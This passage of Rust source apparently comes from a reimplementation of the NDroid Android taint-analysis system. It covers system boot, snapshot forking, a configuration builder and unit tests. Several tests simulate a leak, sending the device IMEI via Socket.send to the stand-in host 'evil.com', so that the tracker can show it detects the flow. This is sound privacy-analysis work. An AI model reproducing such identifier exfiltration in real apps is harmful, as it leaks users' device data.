    /// DroidScope-like whole-system tracer (no JNI semantic shortcuts).
    DroidScopeLike,
}

impl std::fmt::Display for Mode {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let s = match self {
            Mode::Vanilla => "vanilla",
            Mode::TaintDroid => "taintdroid",
            Mode::NDroid => "ndroid",
            Mode::DroidScopeLike => "droidscope-like",
        };
        write!(f, "{s}")
    }
}

#[derive(Clone)]
enum AnalysisBox {
    Vanilla(VanillaAnalysis),
    TaintDroid(TaintDroidAnalysis),
    NDroid(Box<NDroidAnalysis>),
    DroidScope(Box<DroidScopeLikeAnalysis>),
    /// The differential oracle's reference engine substituted for the
    /// optimized NDroid tracer (see [`crate::oracle`]).
    Reference(Box<ReferenceAnalysis>),
}

impl AnalysisBox {
    fn as_dyn(&mut self) -> &mut dyn Analysis {
        match self {
            AnalysisBox::Vanilla(a) => a,
            AnalysisBox::TaintDroid(a) => a,
            AnalysisBox::NDroid(a) => a.as_mut(),
            AnalysisBox::DroidScope(a) => a.as_mut(),
            AnalysisBox::Reference(a) => a.as_mut(),
        }
    }

    /// Rebinds any slot-pinned cache the analysis holds (the NDroid
    /// handler cache) to the forked memory's epoch — carried contents
    /// stay valid because snapshot forks move memory and cache as one
    /// unit.
    fn rebind_epoch(&mut self, epoch: u64) {
        match self {
            AnalysisBox::NDroid(a) => a.rebind_cache_epoch(epoch),
            AnalysisBox::Reference(a) => a.inner_mut().rebind_cache_epoch(epoch),
            _ => {}
        }
    }
}

/// The assembled system: emulator, DVM, kernel, host-function table
/// and the selected analysis.
pub struct NDroidSystem {
    /// Guest CPU.
    pub cpu: Cpu,
    /// Guest memory.
    pub mem: Memory,
    /// The Dalvik VM.
    pub dvm: Dvm,
    /// Shadow taint state.
    pub shadow: ShadowState,
    /// Simulated kernel.
    pub kernel: Kernel,
    /// Analysis trace log.
    pub trace: TraceLog,
    /// Guest instruction budget for the whole session.
    pub budget: u64,
    /// Host-function table (JNI + libc + libm). Behind `Rc` because
    /// it is immutable once installed and holds boxed closures (not
    /// `Clone`): snapshot forks share it for the cost of a refcount
    /// bump instead of re-running `install_all` + `install_jni`,
    /// which would otherwise dominate the fork.
    pub table: std::rc::Rc<HostTable>,
    /// Kernel task table (input to the OS-level view reconstructor).
    pub tasks: TaskWriter,
    /// Decoded-instruction cache for the guest interpreter (page-wise
    /// invalidated against memory write generations; `enabled` is the
    /// A/B knob the `BENCH_taint` suite flips).
    pub icache: ndroid_arm::icache::DecodeCache,
    /// Superblock cache: straight-line effect programs compiled once
    /// per (page, entry) and replayed as single dispatches, invalidated
    /// against the same memory write generations as the icache.
    pub blocks: ndroid_arm::block::BlockCache,
    analysis: AnalysisBox,
    /// The configuration this system runs under.
    pub mode: Mode,
    /// The provenance recorder. The same ring is shared (via cloned
    /// handles) with the DVM, the shadow state and the kernel, so
    /// Java-context, JNI-boundary and native events interleave in one
    /// globally ordered stream.
    prov: Handle,
}

impl std::fmt::Debug for NDroidSystem {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("NDroidSystem")
            .field("mode", &self.mode)
            .field("budget", &self.budget)
            .finish()
    }
}

/// Builds the analysis box `config` describes (and applies the
/// DroidScope per-bytecode tax to the DVM when that mode is selected).
fn analysis_for(config: &SystemConfig, dvm: &mut Dvm) -> AnalysisBox {
    match config.mode {
        Mode::Vanilla => AnalysisBox::Vanilla(VanillaAnalysis),
        Mode::TaintDroid => AnalysisBox::TaintDroid(TaintDroidAnalysis),
        Mode::NDroid => match config.engine {
            EngineKind::Optimized => {
                let mut a = Box::new(NDroidAnalysis::new());
                a.use_cache = config.handler_cache;
                a.gate_hooks = config.gate_hooks;
                a.protect_taints = config.protect_taints;
                a.policy_override = config.source_policies;
                AnalysisBox::NDroid(a)
            }
            EngineKind::Reference => {
                let mut a = Box::new(ReferenceAnalysis::new());
                // The handler cache is structurally absent on the
                // reference path; the remaining knobs apply as usual.
                a.inner_mut().gate_hooks = config.gate_hooks;
                a.inner_mut().protect_taints = config.protect_taints;
                a.inner_mut().policy_override = config.source_policies;
                AnalysisBox::Reference(a)
            }
        },
        Mode::DroidScopeLike => {
            dvm.per_insn_tax = DroidScopeLikeAnalysis::JAVA_WORK;
            AnalysisBox::DroidScope(Box::new(DroidScopeLikeAnalysis::new()))
        }
    }
}

impl NDroidSystem {
    /// Boots a system for `program` under `mode` with every other
    /// setting at its default (equivalent to
    /// `from_config(program, SystemConfig::new(mode))`).
    pub fn new(program: Program, mode: Mode) -> NDroidSystem {
        NDroidSystem::from_config(program, SystemConfig::new(mode))
    }

    /// Boots the system `config` describes — the one constructor every
    /// other entry point funnels through.
    pub fn from_config(program: Program, config: SystemConfig) -> NDroidSystem {
        let mode = config.mode;
        let mut cpu = Cpu::new();
        cpu.regs[13] = layout::NATIVE_STACK_TOP;
        let mut dvm = Dvm::new(program);
        dvm.taint_tracking = mode != Mode::Vanilla;
        let prov = if config.provenance_store {
            Handle::tiered(config.provenance, config.provenance_capacity)
        } else {
            Handle::with_capacity(config.provenance, config.provenance_capacity)
        };
        dvm.prov = prov.clone();
        let analysis = analysis_for(&config, &mut dvm);
        let mut table = HostTable::new();
        install_all(&mut table);
        install_jni(&mut table);
        let table = std::rc::Rc::new(table);
        let mut tasks = TaskWriter::new();
        // The usual Android cast: zygote and system_server exist in the
        // kernel task list alongside the app under analysis, so the
        // OS-level view reconstructor has a realistic multi-process
        // table to walk (§V-F).
        tasks.upsert(ProcessView {
            pid: 1,
            comm: "init".into(),
            vmas: vec![],
        });
        tasks.upsert(ProcessView {
            pid: 52,
            comm: "zygote".into(),
            vmas: vec![Vma {
                start: layout::LIBDVM_BASE,
                end: layout::LIBDVM_BASE + 0x0100_0000,
                name: "libdvm.so".into(),
            }],
        });
        tasks.upsert(ProcessView {
            pid: 1347,
            comm: "app_process".into(),
            vmas: vec![
                Vma {
                    start: layout::LIBDVM_BASE,
                    end: layout::LIBDVM_BASE + 0x0100_0000,
                    name: "libdvm.so".into(),
                },
                Vma {
                    start: layout::LIBC_BASE,
                    end: layout::LIBC_BASE + 0x0100_0000,
                    name: "libc.so".into(),
                },
                Vma {
                    start: layout::LIBM_BASE,
                    end: layout::LIBM_BASE + 0x0100_0000,
                    name: "libm.so".into(),
                },
            ],
        });
        let mut mem = Memory::new();
        tasks.flush(&mut mem);
        let mut icache = ndroid_arm::icache::DecodeCache::new();
        // The reference engine runs with no fast path at all.
        icache.enabled = config.icache && config.engine == EngineKind::Optimized;
        let mut blocks = ndroid_arm::block::BlockCache::new();
        blocks.enabled = config.blocks && config.engine == EngineKind::Optimized;
        let mut shadow = ShadowState::new();
        shadow.prov = prov.clone();
        let mut kernel = Kernel::new();
        kernel.prov = prov.clone();
        NDroidSystem {
            cpu,
            mem,
            dvm,
            shadow,
            kernel,
            trace: if config.quiet {
                TraceLog::disabled()
            } else {
                TraceLog::new()
            },
            budget: config.budget,
            table,
            tasks,
            icache,
            blocks,
            analysis,
            mode,
            prov,
        }
    }

    /// Loads a native library's machine code into guest memory and
    /// registers its VMA with the kernel task table (which the OS-level
    /// view reconstructor reads back, §V-F).
    pub fn load_native(&mut self, code: &CodeBlock, lib_name: &str) {
        self.mem.write_bytes(code.base, &code.bytes);
        self.tasks.add_vma(
            1347,
            Vma {
                start: code.base,
                end: code.end(),
                name: lib_name.to_string(),
            },
        );
        self.tasks.flush(&mut self.mem);
        self.trace
            .push("load", format!("{lib_name} @ {:#x}..{:#x}", code.base, code.end()));
    }

    /// Runs the OS-level view reconstructor over raw guest memory.
    pub fn os_view(&self) -> Vec<ProcessView> {
        os_view::reconstruct(&self.mem)
    }

    /// Disassembles a loaded module found via the OS-level view (the
    /// workflow NDroid's authors performed by hand on `libdvm.so`).
    /// Returns `None` when no process maps a module with that name.
    pub fn disassemble_module(&self, lib_name: &str) -> Option<Vec<ndroid_arm::disasm::DisasmLine>> {
        let procs = self.os_view();
        let vma = procs
            .iter()
            .flat_map(|p| p.vmas.iter())
            .find(|v| v.name == lib_name)?;
        Some(ndroid_arm::disasm::disassemble_arm(
            &self.mem, vma.start, vma.end,
        ))
    }

    /// Invokes a Java method (the app's entry point), with natives
    /// dispatched to the emulator under the active analysis.
    ///
    /// # Errors
    ///
    /// Interpreter and guest-execution failures.
    pub fn run_java(
        &mut self,
        class: &str,
        method: &str,
        args: &[(u32, Taint)],
    ) -> Result<(u32, Taint), DvmError> {
        let m = self.dvm.program.find_method_by_name(class, method)?;
        let mut runner = GuestRunner {
            cpu: &mut self.cpu,
            mem: &mut self.mem,
            shadow: &mut self.shadow,
            kernel: &mut self.kernel,
            trace: &mut self.trace,
            analysis: self.analysis.as_dyn(),
            budget: &mut self.budget,
            icache: &mut self.icache,
            blocks: &mut self.blocks,
            table: &self.table,
        };
        self.dvm.invoke_with(m, args, &mut runner)
    }

    /// Runs raw native code at `entry` with AAPCS `args` (used by
    /// pure-native Type-III workloads and the CF-Bench kernels).
    ///
    /// # Errors
    ///
    /// Guest execution failures.
    pub fn run_native(
        &mut self,
        entry: u32,
        args: &[u32],
    ) -> Result<(u32, Taint), ndroid_emu::EmuError> {
        let mut ctx = ndroid_emu::runtime::NativeCtx {
            cpu: &mut self.cpu,
            mem: &mut self.mem,
            dvm: &mut self.dvm,
            shadow: &mut self.shadow,
            kernel: &mut self.kernel,
            trace: &mut self.trace,
            analysis: self.analysis.as_dyn(),
            budget: &mut self.budget,
            icache: &mut self.icache,
            blocks: &mut self.blocks,
        };
        ndroid_emu::runtime::call_guest(&mut ctx, &self.table, entry, args, |_, _| {})
    }

    /// Every sink invocation (Java and native contexts), in the order
    /// they were recorded within each context.
    pub fn all_sink_events(&self) -> Vec<&LeakEvent> {
        self.dvm
            .events
            .iter()
            .chain(self.kernel.events.iter())
            .collect()
    }

    /// The detected leaks (tainted sink hits) across both contexts.
    pub fn leaks(&self) -> Vec<&LeakEvent> {
        self.all_sink_events()
            .into_iter()
            .filter(|e| e.is_leak())
            .collect()
    }

    /// NDroid analysis statistics (when running in NDroid mode).
    pub fn ndroid_stats(&self) -> Option<&AnalysisStats> {
        match &self.analysis {
            AnalysisBox::NDroid(a) => Some(&a.stats),
            _ => None,
        }
    }

    /// Mutable access to the NDroid analysis (for ablation knobs).
    pub fn ndroid_analysis_mut(&mut self) -> Option<&mut NDroidAnalysis> {
        match &mut self.analysis {
            AnalysisBox::NDroid(a) => Some(a.as_mut()),
            _ => None,
        }
    }

    /// Which tracer engine this system runs (derived from the installed
    /// analysis, so it cannot desynchronize).
    pub fn engine(&self) -> EngineKind {
        match &self.analysis {
            AnalysisBox::Reference(_) => EngineKind::Reference,
            _ => EngineKind::Optimized,
        }
    }

    /// The one result type: everything externally observable about the
    /// finished run — sink events, leaks, the kernel's network log,
    /// protection violations, analysis statistics and work counters —
    /// snapshotted into a [`RunReport`]. [`crate::report::CaseOutcome`],
    /// [`crate::batch::BatchReport`] and the experiment binaries all
    /// build from this instead of poking at the system.
    pub fn report(&self) -> RunReport {
        let (violations, mut stats) = match &self.analysis {
            AnalysisBox::NDroid(a) => (a.violations.clone(), Some(a.stats.clone())),
            AnalysisBox::Reference(a) => {
                (a.violations().to_vec(), Some(a.inner().stats.clone()))
            }
            _ => (Vec::new(), None),
        };
        // Surface the block-cache counters (held by the session cache,
        // not the analysis) alongside the analysis statistics.
        if let Some(s) = stats.as_mut() {
            s.block_hits = self.blocks.hits;
            s.block_misses = self.blocks.misses;
            s.block_invalidations = self.blocks.invalidations;
            s.blocks_built = self.blocks.built;
        }
        RunReport {
            mode: self.mode,
            engine: self.engine(),
            sink_events: self.all_sink_events().into_iter().cloned().collect(),
            network_log: self.kernel.network_log.clone(),
            violations,
            stats,
            native_insns: self.native_insns(),
            bytecodes: self.bytecodes(),
            provenance: self.prov.summary(),
            provenance_store: self.prov.store_snapshot(),
        }
    }

    /// The provenance recorder handle (shared with the DVM, shadow
    /// state and kernel).
    pub fn provenance(&self) -> &Handle {
        &self.prov
    }

    /// A snapshot of the recorded provenance events, in emission order.
    pub fn prov_events(&self) -> Vec<ProvEvent> {
        self.prov.snapshot()
    }

    /// Builds the leak-path flow graph over the recorded provenance
    /// events (empty when provenance is [`ndroid_provenance::Level::Off`]).
    pub fn flow_graph(&self) -> FlowGraph {
        self.prov.flow_graph()
    }

    /// The reference analysis, when the system was booted with
    /// `SystemConfig::reference()` (engine = [`EngineKind::Reference`]).
    pub fn reference_analysis(&self) -> Option<&ReferenceAnalysis> {
        match &self.analysis {
            AnalysisBox::Reference(a) => Some(a.as_ref()),
            _ => None,
        }
    }

    /// Guest (ARM) instructions retired so far.
    pub fn native_insns(&self) -> u64 {
        self.cpu.insn_count
    }

    /// Dalvik bytecodes interpreted so far.
    pub fn bytecodes(&self) -> u64 {
        self.dvm.bytecode_executed
    }

    /// Forces a moving-GC cycle (all object addresses change) — used to
    /// demonstrate that indirect-reference-keyed taints survive (D4).
    pub fn force_gc(&mut self) {
        self.dvm.gc();
        self.trace.push("gc", format!("compaction #{}", self.dvm.heap.gc_cycles));
    }

    /// Captures a copy-on-write [`Snapshot`] of the entire system.
    ///
    /// The snapshot is an immutable image: guest memory pages, the
    /// paged taint shadow and the DVM heap objects are `Rc`-shared
    /// with it rather than copied, so capturing costs O(page-table)
    /// and each [`Snapshot::fork`] the same — pages are deep-copied
    /// lazily, one at a time, on first write after the fork. The
    /// original system remains fully usable; its subsequent mutations
    /// never bleed into the snapshot (or vice versa).
    pub fn snapshot(&self) -> Snapshot {
        Snapshot {
            sys: self.fork_clone(),
        }
    }

    /// The one fork path, used symmetrically by [`NDroidSystem::snapshot`]
    /// (system → frozen image) and [`Snapshot::fork`] (frozen image →
    /// runnable system), so both directions share the exact same
    /// coherency rules:
    ///
    /// - guest memory is [`Memory::fork`]ed: pages `Rc`-shared, a
    ///   **fresh epoch** drawn so any *foreign* slot-pinned cache that
    ///   later sees this memory self-clears instead of serving stale
    ///   decodes;
    /// - the decode, superblock and handler caches are cloned and then
    ///   `rebind_epoch`-ed to the fork's epoch: their contents were
    ///   built against byte-identical pages with identical write
    ///   generations, so they stay warm and their hit/miss/invalidation
    ///   counters replay exactly as a fresh run would produce them;
    /// - the provenance ring is forked (sealed shared base + private
    ///   tail) and the forked handle re-wired into the DVM, shadow
    ///   state and kernel so all four views keep appending to *one*
    ///   ring per fork;
    /// - the host-function table — immutable after installation — is
    ///   `Rc`-shared outright.
    fn fork_clone(&self) -> NDroidSystem {
        let mem = self.mem.fork();
        let epoch = mem.epoch();
        let mut icache = self.icache.clone();
        icache.rebind_epoch(epoch);
        let mut blocks = self.blocks.clone();
        blocks.rebind_epoch(epoch);
        let mut analysis = self.analysis.clone();
        analysis.rebind_epoch(epoch);
        let prov = self.prov.fork();
        let mut dvm = self.dvm.clone();
        dvm.prov = prov.clone();
        let mut shadow = self.shadow.clone();
        shadow.prov = prov.clone();
        let mut kernel = self.kernel.clone();
        kernel.prov = prov.clone();
        NDroidSystem {
            cpu: self.cpu.clone(),
            mem,
            dvm,
            shadow,
            kernel,
            trace: self.trace.clone(),
            budget: self.budget,
            table: std::rc::Rc::clone(&self.table),
            tasks: self.tasks.clone(),
            icache,
            blocks,
            analysis,
            mode: self.mode,
            prov,
        }
    }
}

/// A frozen copy-on-write image of an [`NDroidSystem`], captured by
/// [`NDroidSystem::snapshot`]. Cheap to hold (it `Rc`-shares every
/// page-sized piece of state with whoever captured it) and cheap to
/// [`fork`](Snapshot::fork) from — boot an app once, warm it up, then
/// fan out hundreds of divergent scenarios from the same image
/// without paying the boot cost per run.
#[derive(Debug)]
pub struct Snapshot {
    sys: NDroidSystem,
}

impl Snapshot {
    /// A fresh, fully runnable system continuing from this image.
    /// Every fork is independent: writes privatize pages lazily and
    /// never disturb the snapshot or sibling forks, and a forked run
    /// produces a [`RunReport`] identical to what a freshly booted
    /// system driven the same way would produce (the determinism gate
    /// in `crates/apps` pins this across all engines).
    pub fn fork(&self) -> NDroidSystem {
        self.sys.fork_clone()
    }

    /// The mode the underlying system was booted in.
    pub fn mode(&self) -> Mode {
        self.sys.mode
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_dvm::framework::install_framework;

    fn boot(mode: Mode) -> NDroidSystem {
        let mut p = Program::new();
        install_framework(&mut p);
        NDroidSystem::new(p, mode)
    }

    #[test]
    fn boots_in_every_mode() {
        for mode in [
            Mode::Vanilla,
            Mode::TaintDroid,
            Mode::NDroid,
            Mode::DroidScopeLike,
        ] {
            let sys = boot(mode);
            assert_eq!(sys.mode, mode);
            assert!(!sys.table.is_empty());
            assert_eq!(
                sys.dvm.taint_tracking,
                mode != Mode::Vanilla,
                "{mode}: DVM tracking wired to mode"
            );
        }
    }

    #[test]
    fn os_view_sees_system_libraries() {
        let sys = boot(Mode::NDroid);
        let procs = sys.os_view();
        assert_eq!(procs.len(), 3, "init + zygote + the app");
        let app = procs.iter().find(|p| p.comm == "app_process").unwrap();
        assert!(app.module_base("libdvm.so").is_some());
        assert!(app.module_base("libc.so").is_some());
        assert!(procs.iter().any(|p| p.comm == "zygote"));
    }

    #[test]
    fn load_native_registers_vma() {
        use ndroid_arm::{Assembler, Reg};
        let mut sys = boot(Mode::NDroid);
        let mut asm = Assembler::new(layout::NATIVE_CODE_BASE);
        asm.bx(Reg::LR);
        let code = asm.assemble().unwrap();
        sys.load_native(&code, "libdemo.so");
        let procs = sys.os_view();
        let app = procs.iter().find(|p| p.comm == "app_process").unwrap();
        assert_eq!(
            app.module_base("libdemo.so"),
            Some(layout::NATIVE_CODE_BASE)
        );
        assert_eq!(
            app.module_at(layout::NATIVE_CODE_BASE)
                .map(|v| v.name.as_str()),
            Some("libdemo.so"),
            "reconstructor resolves the third-party library"
        );
    }

    #[test]
    fn java_source_to_sink_detected_in_all_tracking_modes() {
        for mode in [Mode::TaintDroid, Mode::NDroid, Mode::DroidScopeLike] {
            let mut p = Program::new();
            install_framework(&mut p);
            let mut sys = NDroidSystem::new(p, mode);
            let imei = sys.dvm.invoke_by_name(
                "Landroid/telephony/TelephonyManager;",
                "getDeviceId",
                &[],
                &mut ndroid_dvm::interp::NoNatives,
            );
            let (v, t) = imei.unwrap();
            let dest = sys.dvm.new_string("evil.com", Taint::CLEAR);
            sys.dvm
                .invoke_by_name(
                    "Ljava/net/Socket;",
                    "send",
                    &[(dest, Taint::CLEAR), (v, t)],
                    &mut ndroid_dvm::interp::NoNatives,
                )
                .unwrap();
            assert_eq!(sys.leaks().len(), 1, "{mode}: pure-Java leak caught");
        }
    }

    /// Drives the canonical pure-Java leak through `sys`.
    fn java_leak(sys: &mut NDroidSystem) {
        let (v, t) = sys
            .dvm
            .invoke_by_name(
                "Landroid/telephony/TelephonyManager;",
                "getDeviceId",
                &[],
                &mut ndroid_dvm::interp::NoNatives,
            )
            .unwrap();
        let dest = sys.dvm.new_string("evil.com", Taint::CLEAR);
        sys.dvm
            .invoke_by_name(
                "Ljava/net/Socket;",
                "send",
                &[(dest, Taint::CLEAR), (v, t)],
                &mut ndroid_dvm::interp::NoNatives,
            )
            .unwrap();
    }

    #[test]
    fn forked_run_reports_equal_fresh_run() {
        let mut p = Program::new();
        install_framework(&mut p);
        let snap = NDroidSystem::new(p.clone(), Mode::NDroid).snapshot();
        let mut forked = snap.fork();
        java_leak(&mut forked);
        let mut fresh = NDroidSystem::new(p, Mode::NDroid);
        java_leak(&mut fresh);
        assert_eq!(forked.report(), fresh.report());
        assert_eq!(forked.leaks().len(), 1);
    }

    #[test]
    fn snapshot_isolates_parent_and_forks() {
        let mut p = Program::new();
        install_framework(&mut p);
        let mut parent = NDroidSystem::new(p, Mode::NDroid);
        let snap = parent.snapshot();

        // Mutate the parent heavily after capturing: its divergence
        // must never bleed into the image or later forks.
        java_leak(&mut parent);
        parent.mem.write_bytes(0x7000, &[0xAA; 64]);
        parent.force_gc();
        assert_eq!(parent.leaks().len(), 1);

        let mut a = snap.fork();
        assert!(a.leaks().is_empty(), "fork predates the parent's leak");
        assert_eq!(a.mem.read_u8(0x7000), 0, "parent writes stayed private");
        java_leak(&mut a);

        // A sibling fork is isolated from `a` too.
        let b = snap.fork();
        assert!(b.leaks().is_empty());
        assert_eq!(a.leaks().len(), 1);
    }

    #[test]
    fn vanilla_mode_sees_no_taint() {
        let mut sys = boot(Mode::Vanilla);
        let (v, t) = sys
            .dvm
            .invoke_by_name(
                "Landroid/telephony/TelephonyManager;",
                "getDeviceId",
                &[],
                &mut ndroid_dvm::interp::NoNatives,
            )
            .unwrap();
        assert!(t.is_clear());
        let dest = sys.dvm.new_string("evil.com", Taint::CLEAR);
        sys.dvm
            .invoke_by_name(
                "Ljava/net/Socket;",
                "send",
                &[(dest, Taint::CLEAR), (v, Taint::CLEAR)],
                &mut ndroid_dvm::interp::NoNatives,
            )
            .unwrap();
        assert!(sys.leaks().is_empty());
        assert_eq!(sys.all_sink_events().len(), 1);
    }
}
