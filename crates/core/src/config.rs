//! [`SystemConfig`]: the one configuration surface for booting an
//! analyzed system.
//!
//! Historically every knob had its own entry point — `NDroidSystem::new`
//! picked the mode, `quiet()` silenced the trace, ablation code poked
//! `ndroid_analysis_mut()`, and the differential oracle swapped engines
//! through `use_reference_engine()`. The batch farm ([`crate::batch`])
//! runs thousands of systems from a work list, so construction has to
//! be a value, not a call sequence: a `SystemConfig` fully describes a
//! run and [`crate::NDroidSystem::from_config`] realizes it.

use crate::system::Mode;
use ndroid_provenance::Level;

/// Which taint-propagation engine drives the native tracer.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub enum EngineKind {
    /// The optimized NDroid tracer: hot-handler cache plus the
    /// decoded-instruction cache (the production path).
    #[default]
    Optimized,
    /// The differential oracle's reference engine: straight-line
    /// `ref_propagate` over every effect, no caches (see
    /// [`crate::oracle`]). Selecting it disables the decoded-
    /// instruction cache so the run uses no fast path at all.
    Reference,
}

impl std::fmt::Display for EngineKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let s = match self {
            EngineKind::Optimized => "optimized",
            EngineKind::Reference => "reference",
        };
        write!(f, "{s}")
    }
}

/// Overrides the §V-B rule for installing [`crate::SourcePolicy`]
/// records at JNI entries.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub enum SourcePolicyOverride {
    /// The paper's rule: a policy is installed only for native methods
    /// "receiving tainted parameters".
    #[default]
    AsPaper,
    /// Install a policy for every JNI entry (taint initialization is
    /// still only performed for tainted parameters; this inflates the
    /// policy map the way an unconditional implementation would).
    Always,
    /// Never install policies: parameter taints are dropped at the
    /// Java→native boundary. An under-taint ablation — with it, NDroid
    /// degrades to TaintDroid's blindness for cases 1′–4.
    Never,
}

/// A complete description of one analyzed-system boot: mode, engine,
/// verbosity, caches, budget and policy overrides. Build one with the
/// fluent methods and hand it to [`crate::NDroidSystem::from_config`]:
///
/// ```ignore
/// let sys = NDroidSystem::from_config(
///     program,
///     SystemConfig::new(Mode::NDroid).quiet(true).icache(false),
/// );
/// ```
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SystemConfig {
    /// Which analysis configuration runs the app.
    pub mode: Mode,
    /// Which native-tracer engine propagates taint (NDroid mode only).
    pub engine: EngineKind,
    /// Verbosity: `true` disables trace recording (benchmarks/farms).
    pub quiet: bool,
    /// Whether the decoded-instruction cache is enabled. Forced off
    /// when `engine` is [`EngineKind::Reference`].
    pub icache: bool,
    /// Whether superblock dispatch is enabled: straight-line runs are
    /// compiled once into cached effect programs and replayed as a
    /// single dispatch per block. Forced off when `engine` is
    /// [`EngineKind::Reference`].
    pub blocks: bool,
    /// Guest instruction budget for the whole session.
    pub budget: u64,
    /// Whether the §V-C hot-handler cache is consulted (ablation D5).
    pub handler_cache: bool,
    /// Whether multilevel hook gating is applied (ablation D1).
    pub gate_hooks: bool,
    /// Whether the §VII taint-protection extension records violations.
    pub protect_taints: bool,
    /// Source-policy installation rule at JNI entries.
    pub source_policies: SourcePolicyOverride,
    /// How much taint provenance is recorded ([`Level::Off`] keeps the
    /// hot path free of any recording work).
    pub provenance: Level,
    /// Whether provenance uses the tiered store: overflow of the hot
    /// ring seals events into compressed immutable segments instead of
    /// dropping them (lossless), and the run's `RunReport` carries a
    /// frozen, queryable `ProvStore`. Off by default — the flat
    /// bounded ring of PR 5.
    pub provenance_store: bool,
    /// Capacity of the provenance hot ring (flat: the whole bounded
    /// ring; tiered: the segment size — how many events accumulate
    /// before a seal).
    pub provenance_capacity: usize,
}

impl SystemConfig {
    /// The default configuration for `mode`: optimized engine, trace
    /// recording on, both caches on, the stock budget, and the paper's
    /// source-policy rule.
    pub fn new(mode: Mode) -> SystemConfig {
        SystemConfig {
            mode,
            engine: EngineKind::Optimized,
            quiet: false,
            icache: true,
            blocks: true,
            budget: 200_000_000,
            handler_cache: true,
            gate_hooks: true,
            protect_taints: true,
            source_policies: SourcePolicyOverride::AsPaper,
            provenance: Level::Off,
            provenance_store: false,
            provenance_capacity: ndroid_provenance::DEFAULT_CAPACITY,
        }
    }

    /// Shorthand for `SystemConfig::new(Mode::NDroid)`.
    pub fn ndroid() -> SystemConfig {
        SystemConfig::new(Mode::NDroid)
    }

    /// Selects the analysis mode.
    #[must_use]
    pub fn mode(mut self, mode: Mode) -> SystemConfig {
        self.mode = mode;
        self
    }

    /// Selects the tracer engine.
    #[must_use]
    pub fn engine(mut self, engine: EngineKind) -> SystemConfig {
        self.engine = engine;
        self
    }

    /// Shorthand for `engine(EngineKind::Reference)`.
    #[must_use]
    pub fn reference(self) -> SystemConfig {
        self.engine(EngineKind::Reference)
    }

    /// Disables (`true`) or enables (`false`) trace recording.
    #[must_use]
    pub fn quiet(mut self, quiet: bool) -> SystemConfig {
        self.quiet = quiet;
        self
    }

    /// Turns the decoded-instruction cache on or off.
    #[must_use]
    pub fn icache(mut self, enabled: bool) -> SystemConfig {
        self.icache = enabled;
        self
    }

    /// Turns superblock dispatch (cached effect programs) on or off.
    #[must_use]
    pub fn blocks(mut self, enabled: bool) -> SystemConfig {
        self.blocks = enabled;
        self
    }

    /// Sets the guest instruction budget.
    #[must_use]
    pub fn budget(mut self, budget: u64) -> SystemConfig {
        self.budget = budget;
        self
    }

    /// Turns the hot-handler cache on or off (ablation D5).
    #[must_use]
    pub fn handler_cache(mut self, enabled: bool) -> SystemConfig {
        self.handler_cache = enabled;
        self
    }

    /// Turns multilevel hook gating on or off (ablation D1).
    #[must_use]
    pub fn gate_hooks(mut self, enabled: bool) -> SystemConfig {
        self.gate_hooks = enabled;
        self
    }

    /// Turns the §VII taint protector on or off.
    #[must_use]
    pub fn protect_taints(mut self, enabled: bool) -> SystemConfig {
        self.protect_taints = enabled;
        self
    }

    /// Sets the source-policy installation rule.
    #[must_use]
    pub fn source_policies(mut self, rule: SourcePolicyOverride) -> SystemConfig {
        self.source_policies = rule;
        self
    }

    /// Sets the provenance recording level.
    #[must_use]
    pub fn provenance(mut self, level: Level) -> SystemConfig {
        self.provenance = level;
        self
    }

    /// Turns the tiered (lossless, queryable) provenance store on or
    /// off.
    #[must_use]
    pub fn provenance_store(mut self, enabled: bool) -> SystemConfig {
        self.provenance_store = enabled;
        self
    }

    /// Sets the provenance hot-ring capacity (the sealed-segment size
    /// when the tiered store is on).
    #[must_use]
    pub fn provenance_capacity(mut self, cap: usize) -> SystemConfig {
        self.provenance_capacity = cap;
        self
    }
}

impl Default for SystemConfig {
    /// Defaults to full NDroid, everything on.
    fn default() -> SystemConfig {
        SystemConfig::ndroid()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn defaults_mirror_the_legacy_constructor() {
        let c = SystemConfig::new(Mode::TaintDroid);
        assert_eq!(c.mode, Mode::TaintDroid);
        assert_eq!(c.engine, EngineKind::Optimized);
        assert!(!c.quiet);
        assert!(c.icache);
        assert!(c.blocks);
        assert_eq!(c.budget, 200_000_000);
        assert!(c.handler_cache);
        assert!(c.gate_hooks);
        assert!(c.protect_taints);
        assert_eq!(c.source_policies, SourcePolicyOverride::AsPaper);
        assert_eq!(c.provenance, Level::Off);
        assert!(!c.provenance_store);
        assert_eq!(c.provenance_capacity, ndroid_provenance::DEFAULT_CAPACITY);
    }

    #[test]
    fn builder_chains() {
        let c = SystemConfig::ndroid()
            .reference()
            .quiet(true)
            .icache(false)
            .blocks(false)
            .budget(1_000)
            .handler_cache(false)
            .gate_hooks(false)
            .protect_taints(false)
            .source_policies(SourcePolicyOverride::Never)
            .provenance(Level::Full)
            .provenance_store(true)
            .provenance_capacity(64);
        assert_eq!(c.mode, Mode::NDroid);
        assert_eq!(c.engine, EngineKind::Reference);
        assert!(c.quiet && !c.icache && !c.blocks && !c.handler_cache);
        assert_eq!(c.budget, 1_000);
        assert!(!c.gate_hooks && !c.protect_taints);
        assert_eq!(c.source_policies, SourcePolicyOverride::Never);
        assert_eq!(c.provenance, Level::Full);
        assert!(c.provenance_store);
        assert_eq!(c.provenance_capacity, 64);
    }

    #[test]
    fn engine_kind_displays() {
        assert_eq!(EngineKind::Optimized.to_string(), "optimized");
        assert_eq!(EngineKind::Reference.to_string(), "reference");
    }
}
