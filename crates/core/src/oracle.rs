//! The differential taint oracle: a deliberately simple reference
//! taint engine cross-validated against the optimized pipeline.
//!
//! The optimized tracer ([`crate::tracer::propagate`] behind
//! [`NDroidAnalysis`], the [`crate::tracer::HandlerCache`], the
//! decoded-instruction cache, the paged [`TaintMap`]) earns its speed
//! with exactly the kind of machinery — caches, invalidation
//! protocols, fast paths — where soundness bugs hide. This module
//! holds the antidote: [`ref_propagate`] is a straight-line
//! interpretation of Table V with no caches and no state beyond the
//! taints themselves, backed by the sparse [`HashTaintMap`]; the
//! dual-run harness ([`check_oracle`]) executes the same program under
